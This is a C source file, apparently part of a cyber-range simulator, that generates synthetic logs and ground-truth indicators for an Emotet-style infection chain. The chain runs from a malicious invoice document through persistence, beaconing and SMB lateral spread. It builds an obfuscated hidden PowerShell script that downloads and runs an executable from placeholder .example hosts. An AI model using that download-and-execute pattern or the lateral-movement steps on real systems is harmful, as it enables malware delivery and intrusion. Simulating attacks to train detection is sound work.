#include "range/emotet.h"

#include "range/scene_in.h"
#include "range/truth.h"

#define SEC(n) ((cor_time)(n) * COR_SECOND)
#define MS(n) ((cor_time)(n) * 10000)
#define SYS32 "C:\\Windows\\System32\\"
#define WOW64 "C:\\Windows\\SysWOW64\\"
#define OFFICE "C:\\Program Files\\Microsoft Office\\root\\Office16\\"

static const char *const nets[] = {"203.0.113", "198.51.100", "192.0.2"};

/* ---- names ---- */

void cor_emotet_words(uint32_t serial, const char *word[2])
{
    static const char *const known[] = {"duck",  "mfidl", "targets", "ptr",  "khmer",
                                        "purge", "pdeft", "violet",  "thunk"};
    const uint32_t n = COR_LEN(known);
    word[0] = known[serial % n];
    word[1] = known[~(serial / n) % n];
}

cor_emotet *cor_emotet_new(cor_scene *s, cor_machine *on, const cor_emotet *like)
{
    static const unsigned ports[] = {8080, 7080, 443, 80};
    cor_emotet *e = cor_scene_get(s, sizeof *e);
    const char *word[2];
    cor_emotet_words(on->serial, word);
    *e = (cor_emotet){.on = on, .name = cor_scene_fmt(s, "%s%s", word[0], word[1])};
    e->image = cor_scene_fmt(s, WOW64 "%s.exe", e->name);
    if (like != NULL) {
        e->sha256 = like->sha256;
        memcpy(e->c2, like->c2, sizeof e->c2);
        memcpy(e->port, like->port, sizeof e->port);
        return e;
    }
    e->sha256 = cor_scene_sha256(s);
    cor_truth_indicator(s, "sha256", e->sha256);
    unsigned first = cor_scene_between(s, 0, 2);
    for (unsigned i = 0; i < COR_LEN(e->c2); i++) {
        e->c2[i] = cor_scene_fmt(s, "%s.%u", nets[(first + i) % 3], 10 + 10 * i + cor_scene_between(s, 0, 9));
        e->port[i] = ports[i];
        cor_truth_c2(s, cor_scene_fmt(s, "%s:%u", e->c2[i], e->port[i]));
        cor_truth_indicator(s, "ip", e->c2[i]);
    }
    return e;
}

/* ---- arrival ---- */

typedef struct site {
    const char *name, *address, *url;
} site;

/* The program's place stands in the script in pieces, as the real ones write it. */
static const char *downloader(cor_scene *s, const site *from, unsigned n, unsigned number)
{
    const char *name = cor_scene_Word(s, 4, 7), *path = cor_scene_Word(s, 4, 7), *client = cor_scene_Word(s, 4, 7),
               *list = cor_scene_Word(s, 4, 7), *one = cor_scene_Word(s, 4, 7), *urls = "";
    for (unsigned i = 0; i < n; i++)
        urls = cor_scene_fmt(s, "%s%s%s", urls, i == 0 ? "" : "*", from[i].url);
    return cor_scene_fmt(s,
                         "$%s='%u';$%s=$env:userprofile+'\\'+$%s+('.e'+'xe');$%s=&('ne'+'w-o'+'bject') "
                         "Net.WebClient;$%s='%s'.\"sp`lit\"('*');foreach($%s in $%s){try{$%s.\"DownloadFile\"($%s,$%s);"
                         "If((Get-Item $%s).length -ge %u){&('Inv'+'oke'+'-Item')($%s);break;}}catch{}}",
                         name, number, path, name, client, list, urls, one, list, client, one, path, path,
                         cor_scene_between(s, 20000, 40000), path);
}

#define SITES 5

static const char *fetched(cor_scene *s, cor_time t, const cor_emotet *e, const cor_process *shell, const site *from,
                           unsigned number)
{
    const char *path = cor_scene_fmt(s, "C:\\Users\\%s\\%u.exe", e->on->user->name, number);
    unsigned answers = cor_scene_between(s, 0, SITES - 1); /* the first that is still there */
    for (unsigned i = 0; i <= answers; i++) {
        cor_time at = t + MS(900 * i);
        cor_scene_dns(s, at, shell, from[i].name, i < answers ? NULL : from[i].address);
        if (i == answers)
            cor_scene_connect(s, at + MS(70), shell, from[i].address, from[i].name, 80);
    }
    cor_scene_file(s, t + SEC(6), shell, path);
    return path;
}

static cor_process *run_fetched(cor_scene *s, cor_time t, const cor_emotet *e, const cor_process *shell,
                                const char *path)
{
    cor_process *p = cor_scene_start(
        s, t, shell, &(cor_start){.image = path, .line = cor_scene_fmt(s, "\"%s\"", path), .sha256 = e->sha256});
    return cor_scene_start(
        s, t + MS(800), p,
        &(cor_start){.image = path,
                     .line = cor_scene_fmt(s, "\"%s\" --%08x", path, (unsigned)cor_scene_random(s)),
                     .sha256 = e->sha256});
}

static void document(cor_scene *s, cor_time t, const cor_machine *m)
{
    unsigned folder = (unsigned)cor_scene_random(s), number = cor_scene_between(s, 10000, 99999);
    const char *path = cor_scene_fmt(s,
                                     "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                                     "%08X\\Invoice_%u.doc",
                                     m->user->name, folder, number);
    cor_process *mail = cor_scene_run(s, t - SEC(cor_scene_between(s, 300, 1500)), m->explorer, OFFICE "OUTLOOK.EXE",
                                      "\"" OFFICE "OUTLOOK.EXE\"");
    cor_scene_file(s, t - SEC(2), mail, path);
    cor_process *word = cor_scene_run(s, t, mail, OFFICE "WINWORD.EXE",
                                      cor_scene_fmt(s, "\"" OFFICE "WINWORD.EXE\" /n \"%s\" /o \"\"", path));
    cor_scene_exit(s, t + SEC(240), word);
    cor_truth_indicator(s, "file", path);
}

/* UAC asks administrators nothing here: what an administrator starts has the full token. */
cor_process *cor_emotet_opened(cor_scene *s, cor_time t, const cor_emotet *e)
{
    cor_machine *m = e->on;
    const cor_session *as = m->console->full != NULL ? m->console->full : m->console;
    unsigned number = cor_scene_between(s, 20, 999);
    site from[SITES];
    for (unsigned i = 0; i < SITES; i++) {
        from[i].name = cor_scene_fmt(s, "%s.example", cor_scene_word(s, 6, 11));
        from[i].address = cor_scene_fmt(s, "192.0.2.%u", 150 + 8 * i + cor_scene_between(s, 0, 7));
        from[i].url = cor_scene_fmt(s, "http://%s/%s/", from[i].name, cor_scene_word(s, 4, 8));
        cor_truth_indicator(s, "url", from[i].url);
    }
    document(s, t, m);
    const char *script = downloader(s, from, SITES, number);
    cor_time up = t + SEC(22);
    cor_process *shell = cor_scene_start(
        s, up, m->wmi,
        &(cor_start){.image = SYS32 "WindowsPowerShell\\v1.0\\powershell.exe",
                     .line = cor_scene_fmt(s, "powershell -w hidden -en %s", cor_scene_encoded(s, script)),
                     .as = as});
    cor_scene_script_block(s, up + MS(900), shell, script, true);
    const char *path = fetched(s, up + SEC(2), e, shell, from, number);
    const char *called = cor_scene_fmt(s,
                                       "CommandInvocation(Invoke-Item): \"Invoke-Item\"\r\n"
                                       "ParameterBinding(Invoke-Item): name=\"Path\"; value=\"%s\"\r\n",
                                       path);
    cor_scene_powershell_calling(s, up + MS(600), shell, script, called, t + SEC(33));
    cor_truth_stage(s, m, t, "arrival");
    cor_truth_stage(s, m, t + SEC(31), "arrival");
    cor_truth_indicator(s, "file", path);
    return run_fetched(s, t + SEC(31), e, shell, path);
}

/* ---- settling in ---- */

void cor_emotet_installed(cor_scene *s, cor_time t, cor_emotet *e, const cor_process *by, const cor_session *as)
{
    cor_machine *m = e->on;
    const char *key = cor_scene_fmt(s, "HKLM\\System\\CurrentControlSet\\Services\\%s", e->name);
    const char *quoted = cor_scene_fmt(s, "\"%s\"", e->image);
    cor_scene_file(s, t, by, e->image);
    cor_scene_service(
        s, t + MS(400), as,
        &(cor_service){.name = e->name, .display = e->name, .image = quoted, .start = "auto start"});
    cor_scene_value(s, t + MS(410), m->services, cor_scene_fmt(s, "%s\\ImagePath", key), quoted);
    cor_scene_value(s, t + MS(450), m->services, cor_scene_fmt(s, "%s\\Description", key),
                    "Provides support for 3rd party protocol plug-ins for Internet Connection Sharing");
    e->service = cor_scene_start(
        s, t + MS(900), m->services, &(cor_start){.image = e->image, .line = quoted, .sha256 = e->sha256});
    cor_scene_service_state(s, t + MS(1300), m, e->name, e->name, "running");
    cor_truth_stage(s, m, t, "installation");
    cor_truth_stage(s, m, t + MS(400), "persistence");
    cor_truth_indicator(s, "service", e->name);
    cor_truth_indicator(s, "file", e->image);
}

void cor_emotet_beacons(cor_scene *s, cor_time from, cor_time to, const cor_emotet *e)
{
    unsigned turn = 0;
    for (cor_time t = from; t < to; t += MS(cor_scene_between(s, 840000, 960000)), turn++) {
        cor_scene_connect(s, t, e->service, e->c2[turn % COR_LEN(e->c2)], NULL, e->port[turn % COR_LEN(e->c2)]);
        cor_truth_stage(s, e->on, t, "c2");
    }
}

/* ---- what it is there for ---- */

/* For mail, browsers and the network: each writes its list to a file of its own. */
void cor_emotet_modules(cor_scene *s, cor_time t, const cor_emotet *e)
{
    for (unsigned i = 0; i < 3; i++) {
        cor_time at = t + SEC(20 * i);
        const char *list = cor_scene_fmt(s, "C:\\Windows\\Temp\\%04X.tmp", cor_scene_between(s, 0x1000, 0xffff));
        cor_process *p = cor_scene_start(
            s, at, e->service,
            &(cor_start){.image = e->image,
                         .line = cor_scene_fmt(s, "\"%s\" \"/scomma\" \"%s\"", e->image, list),
                         .sha256 = e->sha256});
        cor_scene_file(s, at + SEC(3), p, list);
        cor_scene_exit(s, at + SEC(4), p);
        cor_truth_stage(s, e->on, at, "theft");
    }
}

void cor_emotet_mails(cor_scene *s, cor_time t, const cor_emotet *e)
{
    static const unsigned ports[] = {25, 587, 465};
    unsigned n = cor_scene_between(s, 24, 40);
    for (unsigned i = 0; i < n; i++, t += MS(cor_scene_between(s, 20000, 70000))) {
        cor_scene_connect(s, t, e->service, cor_scene_fmt(s, "%s.%u", nets[i % 2], 110 + 3 * i), NULL, ports[i % 3]);
        cor_truth_stage(s, e->on, t, "theft");
    }
}

/* ---- to the next host ---- */

cor_emotet *cor_emotet_spread(cor_scene *s, cor_time t, const cor_emotet *e, const cor_emotet_copy *c)
{
    cor_machine *to = c->to;
    cor_emotet *next = cor_emotet_new(s, to, e);
    unsigned number = cor_scene_between(s, 10000000, 99999999);
    const char *file = cor_scene_fmt(s, "%u.exe", number),
               *image = cor_scene_fmt(s, c->windows ? "C:\\Windows\\%s" : "C:\\%s", file),
               *path = cor_scene_fmt(s, c->windows ? "%%SystemRoot%%\\%s" : "C:\\%s", file);
    cor_scene_connect(s, t - MS(90), c->by, to->address, to->fqdn, 445);
    cor_scene_accept(s, t - MS(80), to->kernel, e->on, 445);
    cor_session *as = cor_scene_remote(
        s, t,
        &(cor_remote){.from = e->on, .to = to, .who = c->who, .ntlm = true, .explicit_by = c->by, .keep = true});
    cor_scene_share_write(s, t + MS(500), as, c->windows ? COR_SHARE_ADMIN : COR_SHARE_C, file);
    cor_scene_share_read(s, t + MS(1400), as, COR_SHARE_IPC, "svcctl");
    cor_scene_service(s, t + MS(1700), as, &(cor_service){.name = c->service, .display = c->service, .image = path});
    cor_process *p = cor_scene_start(s, t + MS(2000), to->services,
                                     &(cor_start){.image = image, .line = image, .sha256 = e->sha256});
    cor_scene_service_state(s, t + MS(2300), to, c->service, c->service, "running");
    cor_scene_logoff(s, t + SEC(6), as);
    cor_emotet_installed(s, t + SEC(20), next, p, to->system);
    cor_scene_service_state(s, t + SEC(24), to, c->service, c->service, "stopped");
    cor_truth_stage(s, e->on, t, "lateral");
    cor_truth_stage(s, to, t, "lateral");
    cor_truth_spread(s, t, e->on, to, c->who, "smb-service");
    cor_truth_indicator(s, "service", c->service);
    cor_truth_indicator(s, "file", image);
    return next;
}
